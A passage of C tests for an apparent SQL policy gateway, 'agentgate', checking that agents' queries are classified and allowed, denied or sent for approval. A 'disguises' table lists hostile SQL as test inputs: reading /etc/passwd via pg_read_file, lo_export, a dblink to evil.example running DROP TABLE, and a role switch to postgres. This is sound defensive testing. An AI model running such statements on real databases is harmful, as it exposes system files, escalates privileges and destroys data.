			"targets: [{ name: db, protocol: postgres, address: \"127.0.0.2:5432\" }]\n"
			"rules: [{ agent: ci, target: db, sql: [{ name: r, when: { command: [");
	for (int i = 0; i < AG_SQL_NCLASSES; i++)
		p += sprintf(p, "%s%s", i ? ", " : "", ag_sql_command_names[i]);
	sprintf(p, "] }, then: deny }] }]\n");
	pol = ag_policy_parse(yaml, strlen(yaml), "all.yaml", err, sizeof(err));
	if (ASSERT_OK_PTR(pol, err)) {
		const struct ag_kv *kv =
			ag_kv_get(pol->rules[0].sql[0].when, pol->rules[0].sql[0].nwhen, "command");

		if (ASSERT_OK_PTR(kv, "command"))
			ASSERT_EQ(kv->nlist, AG_SQL_NCLASSES, "all of them");
	}
	ag_policy_free(pol);

	snprintf(yaml, sizeof(yaml),
		 "apiVersion: agentgate/v1\n"
		 "agents: [{ name: ci, cgroup: /a }]\n"
		 "targets: [{ name: db, protocol: postgres, address: \"127.0.0.2:5432\" }]\n"
		 "rules: [{ agent: ci, target: db, sql: [{ name: r, when: { command: [selec] }, "
		 "then: deny }] }]\n");
	pol = ag_policy_parse(yaml, strlen(yaml), "bad.yaml", err, sizeof(err));
	ASSERT_TRUE(!pol, "unknown class refused");
	ASSERT_HAS_SUBSTR(err, "unknown value \"selec\" for when.command", "names it");
	ASSERT_HAS_SUBSTR(err, "file, program, system", "lists the classes");
	ag_policy_free(pol);
}

void test_sql_decide(void)
{
	struct ag_policy *pol;
	char err[512];

	pol = ag_policy_parse(DECIDE_POLICY, strlen(DECIDE_POLICY), "decide.yaml", err,
			      sizeof(err));
	if (!ASSERT_OK_PTR(pol, err))
		return;
	for (size_t i = 0; i < N_ELEMS(decide_cases); i++) {
		const struct decide_case *c = &decide_cases[i];
		const struct ag_policy_rule *rule;
		struct ag_sql_decision d, run;
		struct ag_sql_result r;

		if (!test__start_subtest(c->name))
			continue;
		rule = ag_sql_rule_for(pol, c->agent, c->target);
		if (!ASSERT_OK_PTR(rule, "a rule applies"))
			continue;
		if (!ASSERT_OK(ag_sql_classify(c->sql, &r), "classify"))
			continue;
		ag_sql_decide(rule, &r, &d);
		if (!ASSERT_EQ(d.action, c->action, "action") ||
		    !ASSERT_STREQ(d.rule, c->rule, "rule"))
			fprintf(stdout, "  %s: %s by %s (%s)\n", c->sql, ag_action_name(d.action),
				d.rule, d.why);
		ASSERT_EQ(d.stmt, c->stmt, "deciding statement");
		if (c->why)
			ASSERT_HAS_SUBSTR(d.why, c->why, "why");
		/* The data path's decision (why only when it stops the string) is the same. */
		ag_sql_decide_run(rule, &r, &run);
		ASSERT_EQ(run.action, d.action, "run: action");
		ASSERT_STREQ(run.rule, d.rule, "run: rule");
		ASSERT_EQ(run.stmt, d.stmt, "run: deciding statement");
		if (d.action == AG_ACT_DENY || d.action == AG_ACT_APPROVE)
			ASSERT_STREQ(run.why, d.why, "run: why of a refusal");
		ag_sql_result_free(&r);
	}
	if (test__start_subtest("rule_for")) {
		ASSERT_STREQ(ag_sql_rule_for(pol, "ci", "db")->target, "db", "exact first");
		ASSERT_STREQ(ag_sql_rule_for(pol, "ci", "other")->target, "*", "then wildcards");
		ASSERT_STREQ(ag_sql_rule_for(pol, "nobody", "nowhere")->agent, "*", "any name");
		ASSERT_TRUE(!ag_sql_rule_for(pol, NULL, "db"), "no agent");
	}
	if (test__start_subtest("no_rule"))
		subtest_no_rule();
	if (test__start_subtest("allow_unclassified_denied"))
		subtest_unclassified(pol);
	if (test__start_subtest("policy_command_names"))
		subtest_policy_command_names();
	ag_policy_free(pol);
	ag_sql_cache_flush();
}

/* ---- agctl policy explain ---- */

#define EXAMPLE "policies/example.yaml"
#define AGCTL TH_AGCTL
#define EXPLAIN(r, ...)                                                                            \
	AGCTL((r), "policy", "explain", EXAMPLE, "--agent", "ci", "--target", "orders-db",         \
	      __VA_ARGS__)

static void explain_plain(struct th_agctl_result *r, const char *sql, const char *first_line,
			  const char *classes)
{
	if (!ASSERT_EQ(EXPLAIN(r, "--sql", sql), 0, "exit 0"))
		fprintf(stdout, "stderr: %s\n", r->err);
	if (!ASSERT_TRUE(!strncmp(r->out, first_line, strlen(first_line)), "decision first"))
		fprintf(stdout, "want '%s', got:\n%s", first_line, r->out);
	ASSERT_HAS_SUBSTR(r->out, classes, "classes");
	ASSERT_STREQ(r->err, "", "nothing on stderr");
}

/* Member key of a JSON object, of the given type (yajl_t_any: whatever it is). */
static yajl_val jget(yajl_val v, const char *key, yajl_type type)
{
	const char *path[] = { key, NULL };

	return v ? yajl_tree_get(v, path, type) : NULL;
}

static const char *jstr(yajl_val v, const char *key)
{
	yajl_val s = jget(v, key, yajl_t_string);

	return s ? YAJL_GET_STRING(s) : NULL;
}

/* The i-th string of array member key, or NULL. */
static const char *jstr_in(yajl_val v, const char *key, size_t i)
{
	yajl_val a = jget(v, key, yajl_t_array);

	if (!a || i >= YAJL_GET_ARRAY(a)->len || !YAJL_IS_STRING(YAJL_GET_ARRAY(a)->values[i]))
		return NULL;
	return YAJL_GET_STRING(YAJL_GET_ARRAY(a)->values[i]);
}

static size_t jlen(yajl_val v, const char *key)
{
	yajl_val a = jget(v, key, yajl_t_array);

	return a ? YAJL_GET_ARRAY(a)->len : 0;
}

static void explain_json(struct th_agctl_result *r)
{
	yajl_val v, s;
	char errbuf[256];

	/* Options in another order than the grammar's. */
	if (!ASSERT_EQ(AGCTL(r, "-j", "policy", "explain", EXAMPLE, "--sql",
			     "SELECT 1; DELETE FROM public.users", "--target", "orders-db",
			     "--agent", "ci"),
		       0, "exit 0"))
		return;
	v = yajl_tree_parse(r->out, errbuf, sizeof(errbuf));
	if (!ASSERT_OK_PTR(v, "JSON")) {
		fprintf(stdout, "not JSON (%s): %s\n", errbuf, r->out);
		return;
	}
	ASSERT_STREQ(jstr(v, "agent"), "ci", "agent");
	ASSERT_STREQ(jstr(v, "target"), "orders-db", "target");
	ASSERT_STREQ(jstr(v, "decision"), "deny", "decision");
	ASSERT_STREQ(jstr(v, "rule"), "no-unbounded-writes", "rule");
	if (!ASSERT_EQ(jlen(v, "statements"), 2, "two statements"))
		goto out;
	s = YAJL_GET_ARRAY(jget(v, "statements", yajl_t_array))->values[0];
	ASSERT_STREQ(jstr(s, "sql"), "SELECT 1", "first sql");
	ASSERT_STREQ(jstr(s, "decision"), "allow", "first allowed");
	ASSERT_STREQ(jstr(s, "rule"), "reads", "by reads");
	ASSERT_STREQ(jstr_in(s, "classes", 0), "select", "select");
	ASSERT_EQ(jlen(s, "tables"), 0, "no tables");
	ASSERT_TRUE(YAJL_IS_FALSE(jget(s, "where_absent", yajl_t_any)), "where_absent false");
	s = YAJL_GET_ARRAY(jget(v, "statements", yajl_t_array))->values[1];
	ASSERT_STREQ(jstr(s, "sql"), "DELETE FROM public.users", "second sql");
	ASSERT_STREQ(jstr(s, "decision"), "deny", "second denied");
	ASSERT_HAS_SUBSTR(jstr(s, "why"), "where absent", "why");
	ASSERT_TRUE(YAJL_IS_TRUE(jget(s, "where_absent", yajl_t_any)), "where_absent true");
	ASSERT_EQ(jlen(s, "classes"), 2, "two classes");
	ASSERT_STREQ(jstr_in(s, "classes", 0), "delete", "delete");
	ASSERT_STREQ(jstr_in(s, "classes", 1), "write", "write");
	ASSERT_EQ(jlen(s, "tables"), 1, "one table");
	ASSERT_STREQ(jstr_in(s, "tables", 0), "public.users", "table");
out:
	yajl_tree_free(v);
}

/* SELECTs that do more than read, each denied by the example policy. */
static const struct {
	const char *name, *sql, *classes, *why;
} disguises[] = {
	{ "select_cte_delete_denied",
	  "WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM d",
	  "classes:  select,delete,write", "reads does not cover delete,write" },
	{ "select_pg_read_file_denied", "SELECT pg_read_file('/etc/passwd')",
	  "classes:  select,file", "reads does not cover file" },
	{ "select_lo_export_denied", "SELECT lo_export(16384, '/tmp/dump')",
	  "classes:  select,file,write", "reads does not cover file,write" },
	{ "select_dblink_denied",
	  "SELECT * FROM dblink('host=evil.example', 'DROP TABLE users') AS t(a int)",
	  "classes:  select,system", "reads does not cover system" },
	{ "select_set_config_role_denied", "SELECT set_config('role', 'postgres', false)",
	  "classes:  select,role,set", "reads does not cover role,set" },
	{ "select_for_update_denied", "SELECT * FROM users WHERE id = 1 FOR UPDATE",
	  "classes:  select,lock", "reads does not cover lock" },
	{ "select_attr_notation_read_file_denied", "SELECT ('/etc/passwd'::text).pg_read_file",
	  "classes:  select,file", "reads does not cover file" },
};

void test_agctl_policy_explain(void)
{
	struct th_agctl_result *r = malloc(sizeof(*r));
	char errbuf[256];
	yajl_val v;

	if (!ASSERT_OK_PTR(r, "alloc"))
		return;
	if (test__start_subtest("drop_denied"))
		explain_plain(r, "DROP TABLE users", "deny by rule no-drop", "drop");
	if (test__start_subtest("unbounded_update_denied"))
		explain_plain(r, "UPDATE orders SET x=1", "deny by rule no-unbounded-writes",
			      "where:    absent");
	if (test__start_subtest("select_allowed"))
		explain_plain(r, "SELECT 1", "allow by rule reads", "classes:  select");
	if (test__start_subtest("ddl_approve"))
		explain_plain(r, "/* migrate */ ALTER TABLE orders ADD note text",
			      "approve by rule ddl-needs-review", "alter");
	/* The example's reads rule is an allow of [select]: it covers nothing else a SELECT does. */
	for (size_t i = 0; i < N_ELEMS(disguises); i++) {
		if (!test__start_subtest(disguises[i].name))
			continue;
		explain_plain(r, disguises[i].sql, "deny by rule default", disguises[i].classes);
		ASSERT_HAS_SUBSTR(r->out, disguises[i].why, "why");
	}
	if (test__start_subtest("json"))
		explain_json(r);
	if (test__start_subtest("unparseable")) {
		ASSERT_EQ(EXPLAIN(r, "--sql", "SELECT * FORM users"), 1, "exit 1");
		ASSERT_HAS_SUBSTR(r->err, "Error: ", "an error");
		ASSERT_HAS_SUBSTR(r->err, "position 10", "names the position");
		ASSERT_STREQ(r->out, "", "nothing on stdout");
		ASSERT_EQ(AGCTL(r, "-j", "policy", "explain", EXAMPLE, "--agent", "ci", "--target",
				"orders-db", "--sql", "DELETE FROM"),
			  1, "-j exit 1");
		v = yajl_tree_parse(r->out, errbuf, sizeof(errbuf));
		if (ASSERT_OK_PTR(v, "JSON error"))
			ASSERT_HAS_SUBSTR(jstr(v, "error"), "position 12", "position in JSON");
		yajl_tree_free(v);
	}
	if (test__start_subtest("unknown_agent_target")) {
		ASSERT_EQ(AGCTL(r, "policy", "explain", EXAMPLE, "--agent", "nobody", "--target",
				"orders-db", "--sql", "SELECT 1"),
			  1, "unknown agent");
		ASSERT_HAS_SUBSTR(r->err, "no agent \"nobody\"", "names it");
		ASSERT_EQ(AGCTL(r, "policy", "explain", EXAMPLE, "--agent", "ci", "--target",
				"nowhere", "--sql", "SELECT 1"),
			  1, "unknown target");
		ASSERT_HAS_SUBSTR(r->err, "no target \"nowhere\"", "names it");
		ASSERT_EQ(AGCTL(r, "policy", "explain", EXAMPLE, "--agent", "ci", "--target",
				"kube", "--sql", "SELECT 1"),
			  1, "http target");
		ASSERT_HAS_SUBSTR(r->err, "postgres", "says why");
	}
	if (test__start_subtest("bad_usage")) {
		ASSERT_EQ(AGCTL(r, "policy", "explain", EXAMPLE, "--agent", "ci"), 1,
			  "missing options");
		ASSERT_HAS_SUBSTR(r->err, "--sql", "says what is needed");
		ASSERT_EQ(AGCTL(r, "policy", "explain", "/nonexistent.yaml", "--agent", "ci",
				"--target", "db", "--sql", "SELECT 1"),
			  1, "missing file");
		ASSERT_HAS_SUBSTR(r->err, "/nonexistent.yaml", "names the file");
		ASSERT_EQ(AGCTL(r, "policy", "help"), 0, "help");
		ASSERT_HAS_SUBSTR(r->out, "explain FILE --agent NAME --target NAME --sql TEXT",
				  "grammar");
	}
	free(r);
}
